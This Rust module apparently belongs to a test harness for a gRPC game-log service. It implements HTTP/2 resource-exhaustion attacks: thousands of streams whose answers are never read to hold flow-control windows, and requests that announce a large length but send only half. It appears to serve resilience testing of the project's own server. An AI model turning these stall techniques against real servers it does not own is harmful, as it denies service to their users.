//! Attacks that make the server hold something: answers that nobody reads, requests that are sent only in part.
//!
//! They use HTTP/2 directly, because a gRPC client reads every answer and finishes every request.

use std::{future::poll_fn, sync::Arc};

use bytes::{BufMut, Bytes, BytesMut};
use divelog_proto::v1;
use h2::{SendStream, client::SendRequest};
use http::Request;
use prost::Message;
use tokio::{net::TcpStream, task::JoinSet};

use super::{
    AttackContext,
    floods::full_replay,
    repeat::{Setback, keep_doing},
};

/// What a client lets the server send of a stream, and of all streams of a connection, before it has read any: the
/// default of HTTP/2.
const WINDOW: u32 = 65_535;
/// How much is sent at a time.
const CHUNK: usize = 16 * 1_024;
/// The bytes before a gRPC message: whether it is compressed, and its length.
const GRPC_HEADER: usize = 5;
/// The largest page of a list.
const PAGE: u32 = 1_000;
/// The length that a half-sent request announces: nearly the most that is accepted.
const ANNOUNCED: u32 = 250_000;

/// A call that is held.
struct Call {
    path: &'static str,
    /// The request as it is sent: a whole message, or the beginning of one.
    body: Bytes,
    /// Whether nothing more follows.
    whole: bool,
}

/// 160 replays of a long game on 8 connections.
pub fn unread_replays(context: &AttackContext, tasks: &mut JoinSet<()>) {
    let body = framed(&full_replay(&context.finished));
    hold_all(context, 8, 20, Call { path: "/divelog.v1.AuditService/ReplayGame", body, whole: true }, tasks);
}

/// 1,200 lists of games on one connection.
pub fn unread_lists(context: &AttackContext, tasks: &mut JoinSet<()>) {
    let body = framed(&v1::ListGamesRequest { page_size: PAGE, ..Default::default() });
    hold_all(context, 1, 1_200, Call { path: "/divelog.v1.GameService/ListGames", body, whole: true }, tasks);
}

/// 3,000 requests on 10 connections, only half of each is sent.
pub fn half_sent(context: &AttackContext, tasks: &mut JoinSet<()>) {
    let mut body = BytesMut::zeroed(GRPC_HEADER + ANNOUNCED as usize / 2);
    (&mut body[1..GRPC_HEADER]).put_u32(ANNOUNCED);
    let call = Call { path: "/divelog.v1.GameService/SubmitAction", body: body.freeze(), whole: false };
    hold_all(context, 10, 300, call, tasks);
}

/// A message as gRPC sends it.
pub fn framed(message: &impl Message) -> Bytes {
    let mut bytes = BytesMut::with_capacity(GRPC_HEADER + message.encoded_len());
    bytes.put_u8(0);
    bytes.put_u32(message.encoded_len() as u32);
    bytes.put_slice(&message.encode_to_vec());
    bytes.freeze()
}

/// The headers of a gRPC call.
pub fn head(context: &AttackContext, path: &str) -> Result<Request<()>, Setback> {
    let request = Request::post(format!("http://{}{path}", context.address))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(());
    request.map_err(|error| Setback::Refused(error.to_string()))
}

fn hold_all(context: &AttackContext, connections: usize, calls: usize, call: Call, tasks: &mut JoinSet<()>) {
    let call = Arc::new(call);
    for _ in 0..connections {
        let call = call.clone();
        keep_doing(tasks, context, async move |context| hold_connection(context, calls, &call).await);
    }
}

/// Holds calls on one connection until it ends.
async fn hold_connection(context: &AttackContext, calls: usize, call: &Arc<Call>) -> Result<(), Setback> {
    let socket = TcpStream::connect(context.address).await?;
    socket.set_nodelay(true)?;
    let mut builder = h2::client::Builder::new();
    builder.initial_window_size(WINDOW).initial_connection_window_size(WINDOW);
    let (sender, connection) = builder.handshake::<_, Bytes>(socket).await?;
    // Ended with this function.
    let mut holding = JoinSet::new();
    for _ in 0..calls {
        let (call, sender) = (call.clone(), sender.clone());
        keep_doing(&mut holding, context, async move |context| hold(context, sender.clone(), &call).await);
    }
    connection.await?;
    Err(Setback::CutOff("the server ended the connection".to_owned()))
}

/// Makes a call and holds it until the server ends it.
async fn hold(context: &AttackContext, sender: SendRequest<Bytes>, call: &Call) -> Result<(), Setback> {
    let mut sender = sender.ready().await?;
    let (answer, mut stream) = sender.send_request(head(context, call.path)?, false)?;
    context.counts.begin(1);
    let mut rest = call.body.clone();
    while !rest.is_empty() {
        let chunk = rest.split_to(CHUNK.min(rest.len()));
        send(&mut stream, chunk, call.whole && rest.is_empty()).await?;
    }
    let answer = answer.await?;
    refusal(answer.headers())?;
    let mut body = answer.into_body();
    while let Some(read) = body.data().await {
        // Not given back to the flow control: to the server it is not read.
        read?;
    }
    let trailers = body.trailers().await?;
    refusal(&trailers.unwrap_or_default())?;
    context.counts.answer(1);
    Ok(())
}

/// Sends bytes as soon as the server lets it.
pub async fn send(stream: &mut SendStream<Bytes>, bytes: Bytes, end: bool) -> Result<(), Setback> {
    stream.reserve_capacity(bytes.len());
    while stream.capacity() < bytes.len() {
        match poll_fn(|context| stream.poll_capacity(context)).await {
            Some(granted) => {
                granted?;
            }
            None => return Err(Setback::Refused("the server takes no more".to_owned())),
        }
    }
    Ok(stream.send_data(bytes, end)?)
}

/// The refusal that headers or trailers hold.
pub fn refusal(headers: &http::HeaderMap) -> Result<(), Setback> {
    let of = |name| headers.get(name).map(|value| String::from_utf8_lossy(value.as_bytes()).into_owned());
    match of("grpc-status") {
        Some(code) if code != "0" => {
            Err(Setback::Refused(format!("status {code}: {}", of("grpc-message").unwrap_or_default())))
        }
        _ => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_message_has_its_length_before_it() {
        let bytes = framed(&v1::VerifyGameRequest { game_id: "ab".to_owned() });
        assert_eq!(&bytes[..], [0, 0, 0, 0, 4, 0x0a, 2, b'a', b'b']);
    }

    #[test]
    fn refusals() {
        let headers = |code: &'static str| {
            let code = http::HeaderValue::from_static(code);
            http::HeaderMap::from_iter([(http::HeaderName::from_static("grpc-status"), code)])
        };
        assert_eq!(refusal(&http::HeaderMap::new()), Ok(()));
        assert_eq!(refusal(&headers("0")), Ok(()));
        assert_eq!(refusal(&headers("8")), Err(Setback::Refused("status 8: ".to_owned())));
    }
}
